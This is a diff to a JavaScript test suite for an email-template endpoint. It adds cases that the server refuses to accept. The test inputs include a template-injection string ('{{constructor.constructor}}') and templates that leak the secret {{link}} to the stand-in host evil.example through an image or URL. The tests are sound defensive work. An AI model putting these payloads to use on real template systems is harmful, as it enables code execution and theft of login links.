@@ -28,6 +28,9 @@ describe('putting a template', () => {
     ['that would run code', { html: '{{constructor.constructor}} {{link}}' }, '/html'],
     ['that does not escape', { html: '{{{name}}} {{link}}' }, '/html'],
     ['that is too long', { html: `{{link}}${'x'.repeat(20_000)}` }, '/html'],
+    ['that would tell the link to a server of pictures', { html: '<img src="https://evil.example/?{{link}}">{{link}}' }, '/html'],
+    ['with the link in an address of the text', { text: 'https://evil.example/?{{link}}' }, '/text'],
+    ['with the link in the subject', { subject: '{{link}}' }, '/subject'],
     ['with NUL', { text: '{{link}}\0' }, '/text'],
   ])('refuses one %s', async (_, part, pointer) => {
     const { put, context, store } = given();
